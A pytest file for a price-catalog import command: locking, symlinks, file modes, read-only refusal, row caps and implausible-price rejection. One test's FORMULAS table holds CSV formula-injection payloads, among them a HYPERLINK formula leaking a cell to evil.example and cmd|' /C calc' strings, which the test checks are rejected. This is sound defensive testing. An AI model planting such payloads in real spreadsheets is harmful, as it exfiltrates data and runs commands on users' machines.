"""How ``prices import`` writes the catalog (issue 17): under a lock (two imports at once both
land), through a symbolic link, keeping the file's mode, never over a read-only file, not at
all when nothing changed; bounded (a cap on new rows, plausible prices and windows); and
never a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import json
import os
import stat
import subprocess
import sys
import time
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conftest import DATA, ROOT

from llmstrategy.cli import main
from llmstrategy.errors import CatalogError
from llmstrategy.files import csv_formula_risk, locked
from llmstrategy.inputs import prices_import
from llmstrategy.inputs.catalog import load_models
from llmstrategy.inputs.prices_import import import_prices, write_models

AS_OF = "2026-11-23"
EXE = ROOT / ".venv" / "bin" / "llmstrategy"
CMD = [str(EXE)] if EXE.exists() else [sys.executable, "-m", "llmstrategy.cli"]
CHAT: dict[str, Any] = {"mode": "chat", "litellm_provider": "openai", "max_input_tokens": 128000}


def _price(input_usd_per_mtok: float, output_usd_per_mtok: float, **extra: Any) -> dict[str, Any]:
    return {
        **CHAT,
        "input_cost_per_token": input_usd_per_mtok / 1e6,
        "output_cost_per_token": output_usd_per_mtok / 1e6,
        **extra,
    }


@pytest.fixture
def catalog(tmp_path: Path) -> Path:
    path = tmp_path / "models.csv"
    path.write_bytes((DATA / "models.csv").read_bytes())
    return path


def _map(path: Path, entries: dict[str, Any], padding: int = 0) -> Path:
    """A price map; ``padding`` non-chat entries make it slow to read (a wider race window)."""
    data = {**{f"pad/embedding-{i:06d}": {"mode": "embedding", "note": "x" * 200} for i in range(padding)}, **entries}
    path.write_text(json.dumps(data))
    return path


def _import(*args: Any) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [*CMD, "prices", "import", *map(str, args), "--as-of", AS_OF],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


# ---------------------------------------------------------------- the lock


def test_an_import_waits_for_the_lock_and_keeps_the_other_update(tmp_path: Path, catalog: Path) -> None:
    """Deterministic: the test holds the catalog's lock and rewrites the catalog meanwhile, as a
    concurrent import would; the waiting import then reads the new catalog, so both updates
    stay. Without the lock the import reads the old catalog and silently drops the test's."""
    price_map = _map(tmp_path / "a.json", {"gpt-4o": _price(7.0, 21.0)})
    with locked(catalog):
        proc = _import(price_map, "--catalog", catalog)
        time.sleep(1.5)  # long enough for the import to read a catalog, if it did not wait
        assert proc.poll() is None, proc.communicate()
        rows = load_models(catalog)  # another import's update of another row, by rename
        rows["gpt-4o-mini"] = rows["gpt-4o-mini"].model_copy(update={"input_usd_per_mtok": 0.11})
        write_models(list(rows.values()), catalog)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 0, err
    after = load_models(catalog)
    assert after["gpt-4o"].input_usd_per_mtok == 7.0  # the import's update
    assert after["gpt-4o-mini"].input_usd_per_mtok == 0.11  # and the one made while it waited


def test_two_concurrent_imports_keep_both_updates(tmp_path: Path, catalog: Path) -> None:
    """Two real ``prices import`` runs started together, each updating another row (maps
    padded so that each takes a while): both updates are in the catalog afterwards."""
    a = _map(tmp_path / "a.json", {"gpt-4o": _price(7.0, 21.0)}, padding=60_000)
    b = _map(tmp_path / "b.json", {"gpt-4o-mini": _price(0.11, 0.44)}, padding=60_000)
    procs = [_import(a, "--catalog", catalog), _import(b, "--catalog", catalog)]
    for p in procs:
        _, err = p.communicate(timeout=180)
        assert p.returncode == 0, err
    after = load_models(catalog)
    assert (after["gpt-4o"].input_usd_per_mtok, after["gpt-4o"].output_usd_per_mtok) == (7.0, 21.0)
    assert (after["gpt-4o-mini"].input_usd_per_mtok, after["gpt-4o-mini"].output_usd_per_mtok) == (0.11, 0.44)
    assert sorted(p.name for p in catalog.parent.iterdir()) == ["a.json", "b.json", "models.csv"]


def test_a_lock_held_too_long_is_a_one_line_refusal(
    tmp_path: Path, catalog: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(prices_import, "LOCK_TIMEOUT_S", 0.3)
    before = catalog.read_bytes()
    with locked(catalog):
        r = CliRunner().invoke(
            main, ["prices", "import", str(_map(tmp_path / "m.json", {})), "--catalog", str(catalog)]
        )
    assert r.exit_code == 2 and r.stderr.count("\n") == 1, r.output
    assert "another import is writing this catalog" in r.stderr
    assert catalog.read_bytes() == before


# ---------------------------------------------------------------- symbolic link, mode, read-only


def test_a_symlinked_catalog_is_written_through_the_link(tmp_path: Path) -> None:
    real = tmp_path / "store" / "models.csv"
    real.parent.mkdir()
    real.write_bytes((DATA / "models.csv").read_bytes())
    os.chmod(real, 0o640)
    link = tmp_path / "work" / "models.csv"
    link.parent.mkdir()
    link.symlink_to(real)
    report = import_prices(_map(tmp_path / "m.json", {"gpt-4o": _price(7.0, 21.0)}), link, as_of=date(2026, 11, 23))
    assert report.updated == 1 and report.written
    assert link.is_symlink() and os.readlink(link) == str(real)  # still a link, to the same file
    assert load_models(real)["gpt-4o"].input_usd_per_mtok == 7.0  # the file it names is fresh
    assert stat.S_IMODE(real.stat().st_mode) == 0o640
    assert sorted(p.name for p in real.parent.iterdir()) == ["models.csv"]
    assert sorted(p.name for p in link.parent.iterdir()) == ["models.csv"]


@pytest.mark.parametrize("mode", [0o600, 0o640, 0o664])
def test_the_catalog_keeps_its_mode(tmp_path: Path, catalog: Path, mode: int) -> None:
    os.chmod(catalog, mode)
    import_prices(_map(tmp_path / "m.json", {"gpt-4o": _price(7.0, 21.0)}), catalog, as_of=date(2026, 11, 23))
    assert stat.S_IMODE(catalog.stat().st_mode) == mode


@pytest.mark.parametrize("mode", [0o444, 0o400, 0o555])
def test_a_read_only_catalog_is_refused(tmp_path: Path, catalog: Path, mode: int) -> None:
    os.chmod(catalog, mode)
    before = catalog.read_bytes()
    price_map = _map(tmp_path / "m.json", {"gpt-4o": _price(7.0, 21.0)})
    r = CliRunner().invoke(main, ["prices", "import", str(price_map), "--catalog", str(catalog)])
    assert r.exit_code == 2 and r.stdout == "", r.output
    assert (
        r.stderr
        == f"error: {catalog}: read-only catalog (mode {mode:04o}): nothing imported; make it writable to refresh it\n"
    )
    assert catalog.read_bytes() == before and stat.S_IMODE(catalog.stat().st_mode) == mode


def test_an_unchanged_catalog_is_not_rewritten(tmp_path: Path, catalog: Path) -> None:
    price_map = _map(tmp_path / "m.json", {"gpt-4o": _price(7.0, 21.0)})
    assert import_prices(price_map, catalog, as_of=date(2026, 11, 23)).written
    before = catalog.stat()
    time.sleep(0.01)
    r = CliRunner().invoke(main, ["prices", "import", str(price_map), "--catalog", str(catalog), "--as-of", AS_OF])
    assert r.exit_code == 0, r.output
    assert r.stdout.splitlines()[0].endswith("; catalog unchanged, not rewritten")
    after = catalog.stat()
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)


def test_stale_temporary_files_of_a_killed_import_are_removed(tmp_path: Path, catalog: Path) -> None:
    dead = 2**22 + 12345  # above Linux's pid_max default: no such process
    stale = tmp_path / f".models.csv.{dead}.abcd_123.tmp"
    other = tmp_path / f".other.csv.{dead}.abcd_123.tmp"  # another file's: left alone
    live = tmp_path / f".models.csv.{os.getpid()}.zzzz_999.tmp"  # a live writer's: left alone
    for p in (stale, other, live):
        p.write_text("partial")
        os.utime(p, (time.time() - 60, time.time() - 60))
    import_prices(_map(tmp_path / "m.json", {"gpt-4o": _price(7.0, 21.0)}), catalog, as_of=date(2026, 11, 23))
    assert not stale.exists() and other.exists() and live.exists()


# ---------------------------------------------------------------- bounds


def _new_entries(n: int) -> dict[str, Any]:
    return {f"newco/model-{i:04d}": _price(1.0 + i % 7, 2.0 + i % 5) for i in range(n)}


def test_new_rows_are_capped(tmp_path: Path, catalog: Path) -> None:
    before = catalog.read_bytes()
    price_map = _map(tmp_path / "m.json", _new_entries(20))
    args = ["prices", "import", str(price_map), "--catalog", str(catalog), "--add-new", "--as-of", AS_OF]
    r = CliRunner().invoke(main, [*args, "--max-new", "5"])
    assert r.exit_code == 2 and r.stderr.count("\n") == 1, r.output
    assert "would add 20 new catalog rows, more than the 5 one import may add; nothing imported" in r.stderr
    assert "field '--max-new'" in r.stderr
    assert catalog.read_bytes() == before
    r = CliRunner().invoke(main, [*args, "--max-new", "20"])
    assert r.exit_code == 0 and " 20 added," in r.stdout, r.output


def test_the_default_cap_refuses_a_flood_of_new_models(tmp_path: Path, catalog: Path) -> None:
    """6,000 new entries (the issue's map had 100,000): refused by default, nothing written."""
    before = catalog.read_bytes()
    price_map = _map(tmp_path / "m.json", _new_entries(prices_import.DEFAULT_MAX_NEW + 1000))
    with pytest.raises(Exception, match="more than the 5,000 one import may add") as info:
        import_prices(price_map, catalog, add_new=True, as_of=date(2026, 11, 23))
    assert "\n" not in str(info.value)
    assert catalog.read_bytes() == before


#: well-formed numbers no real model has (USD per token, tokens)
IMPLAUSIBLE = {
    "gpt-4o": _price(1e302 * 1e6, 10.0),  # the 1e302 $/token, on a catalog row
    "gpt-4o-mini": _price(0.15, 1_000.01),  # just above $1,000 per 1M output tokens
    "newco/per-1k-slip": _price(3_200.0, 9_710.0),  # priced per 1K tokens by mistake
    "newco/huge-window": {**_price(1.0, 2.0), "max_input_tokens": 10**9},
    "newco/huge-output": {**_price(1.0, 2.0), "max_output_tokens": 2 * 10**8},
    "newco/long-context": {**_price(1.0, 2.0), "input_cost_per_token_above_200k_tokens": 0.5},
    "newco/batch": {**_price(1.0, 2.0), "output_cost_per_token_batches": 0.01},
}


def test_implausible_prices_are_rejected_counted_and_named(tmp_path: Path, catalog: Path) -> None:
    before = load_models(catalog)
    entries = {**IMPLAUSIBLE, "newco/plausible": _price(1_000.0, 1_000.0)}  # the bound itself is plausible
    r = CliRunner().invoke(
        main,
        ["prices", "import", str(_map(tmp_path / "m.json", entries)), "--catalog", str(catalog), "--add-new"],
    )
    assert r.exit_code == 0, r.output
    summary = r.stdout.splitlines()[0]
    assert f"{len(IMPLAUSIBLE)} implausible entries rejected (" in summary
    for key in IMPLAUSIBLE:
        assert key in summary, key
    assert " 1 added," in summary
    after = load_models(catalog)
    assert after["gpt-4o"] == before["gpt-4o"] and after["gpt-4o-mini"] == before["gpt-4o-mini"]
    assert "newco-plausible" in after and not any(k.startswith("newco-per") for k in after)


#: text that a spreadsheet runs as a formula (OWASP CSV injection), in keys and providers
FORMULAS = {
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': {},
    "+cmd|' /C calc'!A0": {},
    "-2+3+cmd|' /C calc'!A0": {},
    "@SUM(1+1)*cmd|' /C calc'!A0": {},
    "\tleading-tab": {},
    "\rleading-cr": {},
    "vendor/fine-name": {"litellm_provider": "=1+1"},
    "vendor/fine-name-2": {"litellm_provider": "@evil"},
}


def test_a_hostile_price_map_never_writes_a_formula(tmp_path: Path, catalog: Path) -> None:
    entries = {k: {**_price(1.0, 2.0), **v} for k, v in FORMULAS.items()}
    entries["vendor/number"] = {**_price(1.0, 2.0), "litellm_provider": "-3.5"}  # a number, not a formula: as is
    report = import_prices(_map(tmp_path / "m.json", entries), catalog, add_new=True, as_of=date(2026, 11, 23))
    assert report.added == 1, report
    assert report.skipped_invalid == len(FORMULAS)
    assert all("would be a spreadsheet formula" in ex for ex in report.invalid_examples)
    # the catalog opened as a spreadsheet would read it: no text cell starts a formula
    with catalog.open(newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert [c for c in cells if csv_formula_risk(c)] == []
    assert "-3.5" in cells and load_models(catalog)["vendor-number"].provider == "-3.5"


def test_an_output_that_cannot_be_written_is_one_line(tmp_path: Path, catalog: Path) -> None:
    out = tmp_path / "out.csv"
    out.mkdir()  # a folder where the catalog should go
    with pytest.raises(CatalogError) as info:
        import_prices(_map(tmp_path / "m.json", {}), catalog, output=out, as_of=date(2026, 11, 23))
    assert "\n" not in str(info.value) and str(out) in str(info.value)


def test_a_carriage_return_in_a_new_row_round_trips(tmp_path: Path, catalog: Path) -> None:
    """The csv writer leaves a bare \\r unquoted and a reader ends the row there: such rows
    are written fully quoted, so the catalog still loads."""
    entry = {**_price(1.0, 2.0), "litellm_provider": "line\rbreak"}
    report = import_prices(
        _map(tmp_path / "m.json", {"vendor/cr\rname": entry}), catalog, add_new=True, as_of=date(2026, 11, 23)
    )
    assert report.added == 1
    row = load_models(catalog)["vendor-cr-name"]
    assert (row.litellm_id, row.name, row.provider) == ("vendor/cr\rname", "Cr Name", "line\rbreak")
